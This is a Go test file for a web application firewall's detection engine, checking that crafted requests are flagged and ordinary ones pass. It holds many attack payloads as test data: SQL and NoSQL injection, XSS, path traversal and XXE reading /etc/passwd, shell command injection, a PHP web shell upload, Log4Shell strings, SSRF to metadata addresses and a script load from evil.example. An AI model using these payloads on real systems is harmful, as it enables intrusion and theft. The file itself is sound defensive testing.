package detect_test

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/palisadewaf/palisade/agent/detect"
	"github.com/palisadewaf/palisade/cloud/apiv1/point"
)

func get(path, query string) *detect.Request {
	return &detect.Request{AppID: 1, Method: "GET", Host: "shop.example.com", Path: path, RawQuery: query, Header: http.Header{}}
}

func withHeader(r *detect.Request, k, v string) *detect.Request {
	if r.Header == nil {
		r.Header = http.Header{}
	}
	r.Header.Set(k, v)
	return r
}

func post(path, ct, body string) *detect.Request {
	return &detect.Request{AppID: 1, Method: "POST", Host: "shop.example.com", Path: path, Header: http.Header{}, ContentType: ct, Body: []byte(body)}
}

func hasDetection(res *detect.Result, typ, at string) bool {
	for _, d := range res.Detections {
		if d.Type == typ && d.Point.String() == at {
			return true
		}
	}
	return false
}

func TestDetectionsAtPoints(t *testing.T) {
	jwtPayload := base64.RawURLEncoding.EncodeToString([]byte(`{"sub":"1' OR '1'='1"}`))
	jwt := "eyJhbGciOiJIUzI1NiJ9." + jwtPayload + ".c2ln"
	mp := "--XyZ\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"shell.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ--\r\n"
	tests := []struct {
		name    string
		req     *detect.Request
		typ, at string
	}{
		{"query", get("/", "id=1%27%20OR%20%271%27%3D%271"), "sqli", "query.id"},
		{"double encoded", get("/", "q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"), "xss", "query.q"},
		{"path traversal", get("/files/..%2f..%2f..%2fetc%2fpasswd", ""), "ptrav", "path"},
		{"form", post("/c", "application/x-www-form-urlencoded", "a=1&cmd=%3B+cat+%2Fetc%2Fpasswd"), "rce", "body|form.cmd"},
		{"json", post("/api", "application/json", `{"user":{"name":"<svg/onload=alert(1)>"}}`), "xss", "body|json.user.name"},
		{"json unicode escapes", post("/api", "application/json", `{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`), "xss", "body|json.q"},
		{"nosql operator", post("/login", "application/json", `{"user":"admin","pass":{"$ne":null}}`), "nosqli", "body|json.pass.$ne:name"},
		{"nosql in query name", get("/login", "user=admin&pass[$ne]=x"), "nosqli", `query["pass[$ne]"]:name`},
		{"xml attribute", post("/soap", "text/xml", `<r><u id="' UNION SELECT password FROM users--">x</u></r>`), "sqli", "body|xml.r.u@id"},
		{"xxe", post("/soap", "application/xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`), "xxe", "body|xml"},
		{"multipart filename", post("/up", "multipart/form-data; boundary=XyZ", mp), "rce", "body|multipart.doc:filename"},
		{"multipart content", post("/up", "multipart/form-data; boundary=XyZ", mp), "rce", "body|multipart.doc"},
		{"base64 in query", get("/", "data="+base64.StdEncoding.EncodeToString([]byte(`{"a":"${jndi:ldap://x.example/a}"}`))), "log4shell", "query.data|base64|json.a"},
		{"jwt claim", &detect.Request{AppID: 1, Method: "GET", Path: "/", Header: http.Header{"Authorization": {"Bearer " + jwt}}}, "sqli", "header.authorization|jwt.payload.sub"},
		{"graphql argument", post("/graphql", "application/json", `{"query":"{ user(id: \"1' UNION SELECT 1,2--\") { name } }"}`), "sqli", "body|graphql.query.user.id"},
		{"graphql variable", post("/graphql", "application/json", `{"query":"query($id: ID) { user(id: $id) { name } }","variables":{"id":"<script>alert(1)</script>"}}`), "xss", "body|graphql.variables.id"},
		{"cookie", &detect.Request{AppID: 1, Method: "GET", Path: "/", Header: http.Header{"Cookie": {"a=1; lang=../../../../etc/passwd"}}}, "ptrav", "cookie.lang"},
		{"user agent", &detect.Request{AppID: 1, Method: "GET", Path: "/", Header: http.Header{"User-Agent": {"sqlmap/1.7"}}}, "scanner", "header.user-agent"},
		{"probe path", get("/.git/config", ""), "scanner", "path"},
		{"ssrf", get("/fetch", "url=http://169.254.169.254/latest/meta-data/"), "ssrf", "query.url"},
		{"open redirect", get("/login", "next=//evil.example"), "redir", "query.next"},
		{"crlf", get("/", "lang=en%0d%0aSet-Cookie:%20x=1"), "crlf", "query.lang"},
		{"ssti", get("/", "name={{7*7}}"), "ssti", "query.name"},
		{"ldap", get("/", "user=*)(uid=*))(|(uid=*"), "ldapi", "query.user"},
		{"encoded newline in json", post("/api", "application/json", `{"q":"x%0aid"}`), "rce", "body|json.q"},
		{"sniffed form scanned whole", post("/api", "text/plain", "admin)(!(&(1=0"), "ldapi", "body"},
		{"prototype pollution in json", post("/api", "application/json", `{"constructor":{"prototype":{"isAdmin":true}}}`), "rce", "body|json.constructor.prototype:name"},
		{"prototype pollution in query", get("/", "__proto__.isAdmin=1"), "rce", `query["__proto__.isAdmin"]:name`},
		{"java class named by a dotted key", post("/post", "application/x-www-form-urlencoded", "java.Runtime=test"), "rce", `body|form["java.Runtime"]:name`},
		{"upload name header", withHeader(post("/upload", "application/octet-stream", "x"), "X-Filename", "a.jsp"), "rce", "header.x-filename"},
		{"json nesting bomb", post("/api", "application/json", strings.Repeat("[", 5000)+strings.Repeat("]", 5000)), "data_bomb", "body|json"},
	}
	e := detect.New(detect.Options{})
	for _, tt := range tests {
		res := e.Inspect(tt.req)
		if !hasDetection(res, tt.typ, tt.at) {
			var got []string
			for _, d := range res.Detections {
				got = append(got, d.Type+"@"+d.Point.String())
			}
			t.Errorf("%s: want %s at %s, got %v", tt.name, tt.typ, tt.at, got)
		}
	}
}

// TestFormWithoutEquals: a form body that is one bare name is scanned
// whole, though a key that looks like a name is not.
func TestFormWithoutEquals(t *testing.T) {
	e := detect.New(detect.Options{})
	if res := e.Inspect(post("/post", "application/x-www-form-urlencoded", "INFORMATION_SCHEMA")); !hasDetection(res, "sqli", "body") {
		t.Errorf("bare name body: %+v", res.Detections)
	}
	if res := e.Inspect(post("/post", "application/x-www-form-urlencoded", "UNION+ALL+SELECT")); !hasDetection(res, "sqli", "body") {
		t.Errorf("bare name body with '+': %+v", res.Detections)
	}
	if res := e.Inspect(post("/post", "application/x-www-form-urlencoded", "subscribe")); res.Attack() {
		t.Errorf("plain name body flagged: %+v", res.Detections)
	}
}

// TestQueryReadWhole: a query string that is one value rather than
// name=value pairs (its '=' not escaped, or a bare base64 blob whose
// padding looks like one) is scanned whole; names of PHP arrays and cache
// busters are not values.
func TestQueryReadWhole(t *testing.T) {
	e := detect.New(detect.Options{})
	for _, q := range []string{
		"admin'%20AND%20'1'='2",
		base64.StdEncoding.EncodeToString([]byte("<svg/onload=alert(1)>")),
		base64.StdEncoding.EncodeToString([]byte("<a href=javascript:alert(1)>click")),
		"window%5B%5B'a'%5D%5B0%5D%20+%20'lert'%5D(1337)",
		"onfocus=;write(cookie)",
		"onload=x%3D%3E$.getScript('//evil.example/2.js')",
		"q=1%2Bunion%2Bselect%2B1,2,3--",
	} {
		if res := e.Inspect(get("/", q)); !res.Attack() {
			t.Errorf("?%s: not flagged", q)
		}
	}
	for _, q := range []string{"wsdl", "1698765432123", "filter[status]=open&sort[]=name", "utm_source=newsletter&ref=", "SGVsbG8gd29ybGQsIGhvdyBhcmUgeW91Pw==", "onboarding=true&onsale=1", "onerror=retry&onchange=submit", "email=john%2Bnews%40example.com", "q=C%2B%2B%2Bor%2BRust"} {
		if res := e.Inspect(get("/", q)); res.Attack() {
			t.Errorf("?%s flagged: %+v", q, res.Detections)
		}
	}
}

// TestBothReadingsOfPlus: a '+' is a space in form data, but a client
// that leaves it unescaped means a '+'; where the two readings differ the
// engine reads both.
func TestBothReadingsOfPlus(t *testing.T) {
	e := detect.New(detect.Options{})
	if res := e.Inspect(get("/", "q=x%20'+alert(1)+'")); !res.Attack() {
		t.Errorf("unescaped '+' in a query: not flagged")
	}
	if res := e.Inspect(withHeader(get("/", ""), "Cookie", "s=%23%7B7%2B7%7D")); !res.Attack() {
		t.Errorf("percent-encoded '+' in a cookie: not flagged")
	}
	for _, q := range []string{"q=see+(e.g.+this)+and+that", "q=%22climate+change%22+AND+(policy+OR+law)", "q=c%2B%2B+templates"} {
		if res := e.Inspect(get("/", q)); res.Attack() {
			t.Errorf("?%s flagged: %+v", q, res.Detections)
		}
	}
}

// TestCookieSplitValue: a cookie value whose ';' or ',' the client did
// not escape is read whole as well as in its parts.
func TestCookieSplitValue(t *testing.T) {
	e := detect.New(detect.Options{})
	for _, c := range []string{"s=admin'; -- -", "s=';alert(1)'", "s=alert.call(null,1)", "s=&lt;svg/onload&equals;alert(1)&gt;", "s=<body style=overflow:auto;height:1000px onscroll=alert(1) id=x>", "s=&#34;&gt;&lt;track/onerror=&#x27;confirm(1)&#x27;&gt;"} {
		if res := e.Inspect(withHeader(get("/", ""), "Cookie", c)); !res.Attack() {
			t.Errorf("Cookie: %s: not flagged", c)
		}
	}
	if res := e.Inspect(withHeader(get("/", ""), "Cookie", "theme=dark; lang=en-US, fr; consent; _ga=GA1.2.3.4")); res.Attack() {
		t.Errorf("ordinary cookies flagged: %+v", res.Detections)
	}
}

// TestEscapedQuotes: quotes escaped once more than the context needs are
// also read unescaped.
func TestEscapedQuotes(t *testing.T) {
	e := detect.New(detect.Options{})
	if res := e.Inspect(get("/", `q=%220%5C%22XOR(if(now()%3Dsysdate()%2Csleep(9)%2C0))XOR%5C%22Z`)); !res.Attack() {
		t.Errorf(`"0\"XOR(...sleep(9)...)XOR\"Z: not flagged`)
	}
	if res := e.Inspect(get("/", `q=%7B%5C%22name%5C%22%3A%5C%22O%5C'Brien%5C%22%7D`)); res.Attack() {
		t.Errorf("escaped JSON in a value flagged: %+v", res.Detections)
	}
}

// TestRefererParts: the query and the path segments of a Referer URL are
// values too.
func TestRefererParts(t *testing.T) {
	e := detect.New(detect.Options{})
	for _, ref := range []string{
		"http://example.com/?q=alert.call(null,1)",
		"https://example.com/search?q=%27%20union%20select%20password%20from%20users--",
		"http://example.com/" + base64.StdEncoding.EncodeToString([]byte("<script>alert(1)</script>")),
		"?id=0+Union+Select-1,Make_Set(7,@:=0,(Select-1.From(Information_Schema.Columns)),@),1,1",
	} {
		if res := e.Inspect(withHeader(get("/", ""), "Referer", ref)); !res.Attack() {
			t.Errorf("Referer: %s: not flagged", ref)
		}
	}
	ok := "https://shop.example.com/products/red-shoes?utm_source=newsletter&utm_medium=email&id=42#reviews"
	if res := e.Inspect(withHeader(get("/", ""), "Referer", ok)); res.Attack() {
		t.Errorf("Referer %s flagged: %+v", ok, res.Detections)
	}
}

// TestRealisticHeadersPass: cookies, referers and headers as browsers and
// analytics tags send them go through the readings added for attacks
// (cookie tails, a Referer's parts, header query strings) unflagged.
func TestRealisticHeadersPass(t *testing.T) {
	e := detect.New(detect.Options{})
	cases := []struct{ k, v string }{
		{"Cookie", "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; __cf_bm=abcDEF123.-_xyz-1700000000-0-AbCdEf+GhIjKl/MnOpQr=; _fbp=fb.1.1700000000000.123456789"},
		{"Cookie", "AMCV_1234ABCD%40AdobeOrg=-1124106680%7CMCIDTS%7C19700%7CMCMID%7C12345678901234567890%7CvVersion%7C5.5.0; s_pers=%20s_vnum%3D1700000000000%2526vn%253D1%7C1700000000000%3B%20s_invisit%3Dtrue%7C1700000000000%3B; s_sess=%20s_cc%3Dtrue%3B%20s_sq%3D%3B"},
		{"Cookie", "wordpress_logged_in_abc=admin%7C1700000000%7Cabcdef%7C0123456789abcdef; wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce; wp-settings-time-1=1700000000"},
		{"Cookie", "OptanonConsent=isGpcEnabled=0&datestamp=Mon+Nov+20+2023+10%3A00%3A00+GMT%2B0100+(Central+European+Standard+Time)&version=202310.1.0&groups=C0001%3A1%2CC0002%3A0; OptanonAlertBoxClosed=2023-11-20T09:00:00.000Z"},
		{"Cookie", "cart=[{\"id\":12,\"qty\":2},{\"id\":7,\"qty\":1}]; prefs={\"theme\":\"dark\",\"lang\":\"en-GB\"}"},
		{"Cookie", "session=eyJhbGciOiJIUzI1NiJ9.eyJ1c2VyIjoiYW5uZSJ9.sig; csrftoken=Ab3dEf; django_language=en"},
		{"Cookie", "consent=yes; theme=dark; lang=en-US, fr; tz=Europe/Berlin"},
		{"Cookie", "JSESSIONID=ABCDEF0123456789; $Version=1; $Path=/"},
		{"Referer", "https://www.google.com/url?sa=t&rct=j&q=&esrc=s&source=web&cd=&ved=2ahUKEwjX9&url=https%3A%2F%2Fshop.example.com%2F&usg=AOvVaw3abc"},
		{"Referer", "https://shop.example.com/search?q=red+shoes+(size+42)&sort=price%3Aasc&page=2"},
		{"Referer", "https://m.facebook.com/?fbclid=IwAR3xYz_AbCdEfGh-IjKlMn&utm_source=facebook&utm_medium=social"},
		{"Referer", "https://shop.example.com/products/a-very-long-product-slug-with-many-words-in-it-2024-edition?variant=123456"},
		{"Referer", "https://docs.example.com/guide/sql/select-statements#where-clause"},
		{"Referer", "https://shop.example.com/checkout?return_to=%2Faccount%2Forders%3Fstatus%3Dopen"},
		{"X-Requested-With", "XMLHttpRequest"},
		{"X-Forwarded-For", "203.0.113.7, 198.51.100.23"},
		{"X-Query", "?page=2&sort=name"},
		{"User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1"},
		{"User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
	}
	for _, c := range cases {
		if res := e.Inspect(withHeader(get("/", ""), c.k, c.v)); res.Attack() {
			t.Errorf("%s: %s flagged: %+v", c.k, c.v, res.Detections)
		}
	}
}

// TestTextWithPlusPasses: form text whose spaces are '+', next to
// punctuation, numbers and escaped '+' signs, is not read as code.
func TestTextWithPlusPasses(t *testing.T) {
	e := detect.New(detect.Options{})
	for _, q := range []string{
		"comment=I+love+C%2B%2B+and+(sometimes)+Java!&rating=5", "expr=a+b", "phone=%2B44+20+7946+0958",
		"math=1+1%3D2", "q=what+is+1+%2B+1", "q=x+(y+z)", "q=(a+b)*c", "q=it's+ok+(really)",
		"name=O%27Brien&city=St.+John%27s", "q=%22exact+phrase%22+-exclude", "tags=a+b+c&sort=-date",
		"q='quoted'+word", "q=alert+box+styling", "q=select+a+plan", "code=x%3D1%3B+y%3D2",
		"q=L%27%C3%A9t%C3%A9+(2024)", "ref=%40twitter_handle", "url=https%3A%2F%2Fexample.com%2F%40user",
	} {
		if res := e.Inspect(get("/", q)); res.Attack() {
			t.Errorf("?%s flagged: %+v", q, res.Detections)
		}
	}
}

// TestInvisibleCharacters: zero-width, bidi and NUL characters inside
// keywords are read as a filter that drops them would.
func TestInvisibleCharacters(t *testing.T) {
	e := detect.New(detect.Options{})
	for _, q := range []string{
		"id=%27%20un%e2%80%8bion%20se%e2%80%8blect%201,2,3--",
		"q=%3C%e2%80%aescript%e2%80%ae%3Ealert(1)%3C/script%3E",
		"q=%3Cscr%00ipt%3Ealert(1)%3C/script%3E",
	} {
		if res := e.Inspect(get("/", q)); !res.Attack() {
			t.Errorf("?%s: not flagged", q)
		}
	}
	if res := e.Inspect(get("/", "q=%E2%80%8Fhello%E2%80%8E%20world%C2%AD")); res.Attack() {
		t.Errorf("bidi marks in text flagged: %+v", res.Detections)
	}
}

// TestDataURLScannedWhole: a data: URL is decoded and also judged as the
// URL it is.
func TestDataURLScannedWhole(t *testing.T) {
	res := detect.New(detect.Options{}).Inspect(get("/", "src=data%3Atext%2Fplain%3Bbase64%2CSSBsb3ZlIFBIUAo%3D"))
	if !hasDetection(res, "rfi", "query.src") {
		t.Errorf("data: URL: %+v", res.Detections)
	}
}

// TestPaddedValue: a payload pushed past the part of a long value the
// detectors read in full is still found in the tail they read too.
func TestPaddedValue(t *testing.T) {
	e := detect.New(detect.Options{})
	pad := strings.Repeat("A", 128<<10)
	res := e.Inspect(post("/post", "application/x-www-form-urlencoded", "q="+pad+"%27+UNION+SELECT+username+FROM+users"))
	if !hasDetection(res, "sqli", "body|form.q") || !res.Truncated {
		t.Errorf("padded form value: truncated=%v %+v", res.Truncated, res.Detections)
	}
	if res := e.Inspect(post("/post", "application/x-www-form-urlencoded", "q="+pad)); res.Attack() {
		t.Errorf("padding alone flagged: %+v", res.Detections)
	}
}

// TestUnescapedAmpersand: a value whose '&' the sender did not escape
// splits into a bare name; the body is scanned whole as well.
func TestUnescapedAmpersand(t *testing.T) {
	res := detect.New(detect.Options{}).Inspect(post("/clam.php", "application/x-www-form-urlencoded", "cmd=127.0.0.1 && ls /etc"))
	if !res.Attack() {
		t.Errorf("cmd=127.0.0.1 && ls /etc: %+v", res.Detections)
	}
}

// TestOASTHostInUserAgent: a callback host of an interaction service in the
// user agent is a scanner's probe.
func TestOASTHostInUserAgent(t *testing.T) {
	e := detect.New(detect.Options{})
	res := e.Inspect(withHeader(get("/", ""), "User-Agent", "Mozilla/5.0 Chrome/55.0 root@w63gecoroprj5um8.interact.sh"))
	if !hasDetection(res, "scanner", "header.user-agent") {
		t.Errorf("interact.sh in the user agent: %+v", res.Detections)
	}
	if res := e.Inspect(withHeader(get("/", ""), "User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0")); res.Attack() {
		t.Errorf("browser user agent flagged: %+v", res.Detections)
	}
}

func TestHPPKeepsEveryValue(t *testing.T) {
	res := detect.New(detect.Options{KeepValues: true}).Inspect(get("/", "id=1&id=2&id=3"))
	var got []string
	for _, v := range res.Values {
		if v.Point.String() == "query.id" {
			got = append(got, v.Value)
		}
	}
	// Each value, and the values joined, which is what a detection in
	// them would be reported in.
	if want := []string{"1", "2", "3", "1 2 3"}; !slices.Equal(got, want) {
		t.Errorf("query.id values = %q, want %q", got, want)
	}
	// Split across repeated names, the injection is only seen joined.
	res = detect.New(detect.Options{}).Inspect(get("/", "id=1%20UNION%2F*&id=*%2FSELECT%201,2,3--"))
	if !hasDetection(res, "sqli", "query.id") {
		t.Errorf("HPP-split injection not detected: %+v", res.Detections)
	}
}

func TestCompressionBomb(t *testing.T) {
	var b bytes.Buffer
	zw := gzip.NewWriter(&b)
	zw.Write(make([]byte, 64<<20))
	zw.Close()
	req := post("/api", "application/json", "")
	req.Body, req.ContentEncoding = b.Bytes(), "gzip"
	res := detect.New(detect.Options{}).Inspect(req)
	if !hasDetection(res, "data_bomb", "body|gzip") || !res.Truncated {
		t.Errorf("bomb: detections %+v truncated %v", res.Detections, res.Truncated)
	}
	// A gzip body within limits is decoded and inspected.
	b.Reset()
	zw = gzip.NewWriter(&b)
	zw.Write([]byte(`{"q":"' OR 1=1--"}`))
	zw.Close()
	req.Body = b.Bytes()
	if res := detect.New(detect.Options{}).Inspect(req); !hasDetection(res, "sqli", "body|gzip|json.q") {
		t.Errorf("gzip body: %+v", res.Detections)
	}
}

// TestValuesForMasking checks that a request with a detection comes with
// every value masking needs, and that a clean one skips recording them.
func TestValuesForMasking(t *testing.T) {
	clean := post("/login", "application/json", `{"user":"alice","password":"hunter2","card":{"number":"4111111111111111"}}`)
	clean.Header.Set("Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte("alice:s3cret")))
	if res := detect.New(detect.Options{}).Inspect(clean); res.Attack() || len(res.Values) != 0 {
		t.Errorf("clean request: %d detections, %d values kept", len(res.Detections), len(res.Values))
	}
	req := post("/login", "application/json", string(clean.Body))
	req.RawQuery, req.Header = "next='%20OR%201=1--", clean.Header
	res := detect.New(detect.Options{}).Inspect(req)
	if !res.Attack() {
		t.Fatal("attack not detected")
	}
	want := map[string]string{
		"body|json.password":          "hunter2",
		"body|json.card.number":       "4111111111111111",
		"header.authorization|base64": "alice:s3cret",
		"header.authorization":        "Basic YWxpY2U6czNjcmV0",
		"path":                        "/login",
	}
	got := map[string]string{}
	for _, v := range res.Values {
		got[v.Point.String()] = v.Value
	}
	for p, v := range want {
		if got[p] != v {
			t.Errorf("value at %s = %q, want %q", p, got[p], v)
		}
	}
}

// TestDetectionsInWalkedValues: what a detector finds in a reading of a
// value (invisible characters dropped, letters folded, breaks joined,
// quotes unescaped, '+' read as a space, the tail of a long value) is
// reported in the value itself, with the fragment where it lies there:
// masking knows the walked values, not the readings, and a secret must
// not reach an excerpt in a form it does not know.
func TestDetectionsInWalkedValues(t *testing.T) {
	e := detect.New(detect.Options{KeepValues: true})
	pad := strings.Repeat("A", 128<<10)
	for _, c := range []struct {
		req      *detect.Request
		fragment string // a part of the fragment, as the value holds it
	}{
		{get("/", "id=%27%20un%e2%80%8bion%20se%e2%80%8blect%201,2,3--"), "un\u200bion"},
		{get("/account/01000%3F0%2500/settings/../../../etc/passwd", ""), "/etc/passwd"},
		{get("/", "q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E"), "＜script"},
		{get("/", "q=%3C%09script%09%3Ealert(1)%3C/script%3E"), "<\tscript"},
		{get("/", `q=0%5C%22XOR(sleep(9))XOR%5C%22Z`), "sleep(9)"},
		{get("/", "q=1%2Bunion%2Bselect%2Busername%2Cpassword%2Bfrom%2Busers--"), "select"},
		{post("/post", "application/x-www-form-urlencoded", "q="+pad+"%27+UNION+SELECT+username+FROM+users"), "UNION"},
	} {
		res := e.Inspect(c.req)
		if !res.Attack() {
			t.Errorf("%s?%.60s: not flagged", c.req.Path, c.req.RawQuery)
			continue
		}
		held := false
		for _, d := range res.Detections {
			walked := slices.ContainsFunc(res.Values, func(v detect.Value) bool { return v.Point.Equal(d.Point) && v.Value == d.Value })
			if !walked {
				t.Errorf("%s?%.60s: %s at %s reported in %.80q, not a walked value", c.req.Path, c.req.RawQuery, d.DetectorID, d.Point, d.Value)
			}
			if d.Start < 0 || d.End > len(d.Value) || d.Start > d.End {
				t.Fatalf("%s: fragment [%d:%d] outside %d bytes", d.DetectorID, d.Start, d.End, len(d.Value))
			}
			held = held || strings.Contains(d.Fragment(), c.fragment)
		}
		if !held {
			t.Errorf("%s?%.60s: no fragment holds %q: %+v", c.req.Path, c.req.RawQuery, c.fragment, res.Detections[0].Fragment())
		}
	}
}

// TestOAuthLoopbackRedirect: a native application's sign-in sends its
// loopback redirection URI (RFC 8252) to the authorization server, once
// to authorize and once with the code; the same URL in a parameter the
// server fetches is SSRF.
func TestOAuthLoopbackRedirect(t *testing.T) {
	e := detect.New(detect.Options{})
	for _, req := range []*detect.Request{
		get("/oauth2/authorize", "response_type=code&client_id=202264815644.apps.example.test&redirect_uri=http%3A%2F%2F127.0.0.1%3A53682%2F&scope=openid+email&state=Xy7k2Q&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256"),
		get("/login/oauth/authorize", "client_id=178c6fc778ccc68e1d6a&redirect_uri=http%3A%2F%2Flocalhost%3A8085%2Fcallback&state=abc"),
		post("/oauth2/token", "application/x-www-form-urlencoded", "grant_type=authorization_code&code=4%2F0AX4XfWh&redirect_uri=http%3A%2F%2F%5B%3A%3A1%5D%3A8400%2F&code_verifier=dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"),
	} {
		if res := e.Inspect(req); res.Attack() {
			t.Errorf("%s?%s: %+v", req.Path, req.RawQuery, res.Detections)
		}
	}
	for q, at := range map[string]string{
		"url=http%3A%2F%2F127.0.0.1%3A53682%2F":                             "query.url",
		"redirect_uri=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F": "query.redirect_uri",
		"redirect_uri=gopher%3A%2F%2F127.0.0.1%3A6379%2F_x":                 "query.redirect_uri",
	} {
		if res := e.Inspect(get("/", q)); !hasDetection(res, "ssrf", at) {
			t.Errorf("?%s: not flagged as SSRF: %+v", q, res.Detections)
		}
	}
}

// TestJWTClaimsNameParties: a token's claims name its issuer and audience
// by URL, on internal hosts in most deployments; the URLs a library
// fetches are in the token's header (jku, x5u), and an injection in a
// claim is still one.
func TestJWTClaimsNameParties(t *testing.T) {
	e := detect.New(detect.Options{})
	token := func(header, payload string) string {
		return base64.RawURLEncoding.EncodeToString([]byte(header)) + "." + base64.RawURLEncoding.EncodeToString([]byte(payload)) + ".c2lnbmF0dXJl"
	}
	bearer := func(tok string) *detect.Request {
		r := get("/api/v1/me", "")
		r.Header.Set("Authorization", "Bearer "+tok)
		return r
	}
	claims := `{"exp":1733350000,"iss":"http://keycloak.auth.svc.cluster.local/realms/staff","aud":["http://localhost:8080/api","account"],"sub":"f:1:bob","azp":"web"}`
	if res := e.Inspect(bearer(token(`{"alg":"RS256","kid":"k1"}`, claims))); res.Attack() {
		t.Errorf("issuer on an internal host flagged: %+v", res.Detections)
	}
	if res := e.Inspect(bearer(token(`{"alg":"RS256","jku":"http://127.0.0.1:8080/jwks.json"}`, claims))); !hasDetection(res, "ssrf", "header.authorization|jwt.header.jku") {
		t.Errorf("jku on loopback not flagged: %+v", res.Detections)
	}
	if res := e.Inspect(bearer(token(`{"alg":"RS256"}`, `{"iss":"https://sso.example.com/","picture":"http://169.254.169.254/"}`))); !hasDetection(res, "ssrf", "header.authorization|jwt.payload.picture") {
		t.Errorf("a metadata address in a claim not flagged: %+v", res.Detections)
	}
	if res := e.Inspect(bearer(token(`{"alg":"none"}`, `{"sub":"1' OR '1'='1","iss":"http://localhost/"}`))); !hasDetection(res, "sqli", "header.authorization|jwt.payload.sub") {
		t.Errorf("injection in a claim not flagged: %+v", res.Detections)
	}
}

// TestPrivateNetworkNames: systems inside a private network name each
// other in what they send (an alert's source, a webhook's project and
// commit URLs); such a name is SSRF where a parameter says the server
// fetches it, while loopback and metadata addresses are SSRF anywhere.
func TestPrivateNetworkNames(t *testing.T) {
	e := detect.New(detect.Options{})
	for _, body := range []string{
		`{"status":"firing","externalURL":"http://alertmanager-main-0.monitoring.svc:9093","alerts":[{"labels":{"alertname":"HighLatency"},"generatorURL":"http://prometheus-k8s-0.monitoring.svc:9090/graph?g0.expr=up"}]}`,
		`{"object_kind":"push","project":{"web_url":"http://gitlab.corp.lan/team/app","git_ssh_url":"git@gitlab.corp.lan:team/app.git"},"commits":[{"id":"b6568db1","url":"http://gitlab.corp.lan/team/app/-/commit/b6568db1"}]}`,
	} {
		if res := e.Inspect(post("/hooks", "application/json", body)); res.Attack() {
			t.Errorf("%.60s: %+v", body, res.Detections)
		}
	}
	for _, c := range []struct {
		req *detect.Request
		at  string
	}{
		{get("/fetch", "url=http%3A%2F%2Finternal.service.local%2F"), "query.url"},
		{post("/api/profile", "application/json", `{"user":{"avatar_url":"http://files.corp.lan/x"}}`), "body|json.user.avatar_url"},
		{post("/api/notes", "application/json", `{"items":[{"note":"http://127.0.0.1:6379/"}]}`), "body|json.items[0].note"},
		{post("/api/notes", "application/json", `{"note":"http://kubernetes.default.svc/api/v1/secrets"}`), "body|json.note"},
	} {
		if res := e.Inspect(c.req); !hasDetection(res, "ssrf", c.at) {
			t.Errorf("%s: SSRF at %s not flagged: %+v", c.req.Path, c.at, res.Detections)
		}
	}
}

// TestQueryLanguageOperators: APIs whose filters are written with MongoDB's
// operators (Strapi, Parse, the Data API) take them in a parameter named
// for a query; elsewhere, and for the operators that run code, they are
// an injection.
func TestQueryLanguageOperators(t *testing.T) {
	e := detect.New(detect.Options{})
	for _, req := range []*detect.Request{
		get("/api/articles", "filters[title][$eq]=hello&filters[$or][0][date][$gte]=2020-01-01&populate=*"),
		get("/parse/classes/Player", "where=%7B%22score%22%3A%7B%22%24gte%22%3A1000%7D%2C%22name%22%3A%7B%22%24in%22%3A%5B%22a%22%2C%22b%22%5D%7D%7D"),
		post("/action/find", "application/json", `{"collection":"users","filter":{"age":{"$gt":18},"$or":[{"city":"Berlin"},{"city":"Paris"}]}}`),
	} {
		if res := e.Inspect(req); res.Attack() {
			t.Errorf("%s?%s: %+v", req.Path, req.RawQuery, res.Detections)
		}
	}
	for _, req := range []*detect.Request{
		get("/login", "username[$ne]=x&password[$ne]=x"),
		get("/api/articles", "filters[$where]=this.a%3D%3Dthis.a"),
		post("/action/find", "application/json", `{"filter":{"$expr":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}}`),
		post("/login", "application/json", `{"user":"admin","password":{"$gt":""}}`),
	} {
		if res := e.Inspect(req); !res.Attack() {
			t.Errorf("%s?%s %s: not flagged", req.Path, req.RawQuery, req.Body)
		}
	}
}

// TestDollarKeysOfOtherFormats: "$type" is .NET's type discriminator and
// "$comment" a JSON Schema annotation; as keys they are those formats'.
func TestDollarKeysOfOtherFormats(t *testing.T) {
	e := detect.New(detect.Options{})
	for _, body := range []string{
		`{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"https://example.com/order.schema.json","$comment":"Orders of the web shop","type":"object","properties":{"items":{"$ref":"#/$defs/item"}}}`,
		`{"$type":"Shop.Models.Circle, Shop","radius":2.5,"tags":{"$type":"System.Collections.Generic.List` + "`" + `1[[System.String, mscorlib]], mscorlib","$values":["a","b"]}}`,
	} {
		if res := e.Inspect(post("/api/x", "application/json", body)); res.Attack() {
			t.Errorf("%.50s: %+v", body, res.Detections)
		}
	}
	for _, req := range []*detect.Request{
		get("/login", "user=admin&password[$type]=2"),
		post("/search", "text/plain", `' } ], $comment:'successful MongoDB injection'`),
	} {
		if res := e.Inspect(req); !slices.ContainsFunc(res.Detections, func(d detect.Detection) bool { return d.Type == "nosqli" }) {
			t.Errorf("%s %s: %+v", req.RawQuery, req.Body, res.Detections)
		}
	}
}

// TestConsoleProbesReportOnly: the admin console of a product the server
// may run (phpMyAdmin, Tomcat's manager) is reported and does not block;
// secrets left in the web root block; WordPress's editor lists authors.
func TestConsoleProbesReportOnly(t *testing.T) {
	e := detect.New(detect.Options{})
	res := e.Inspect(get("/phpmyadmin/index.php", "route=/sql&db=shop"))
	if !hasDetection(res, "scanner", "path") || res.Blocked() || !res.Detections[0].Experimental {
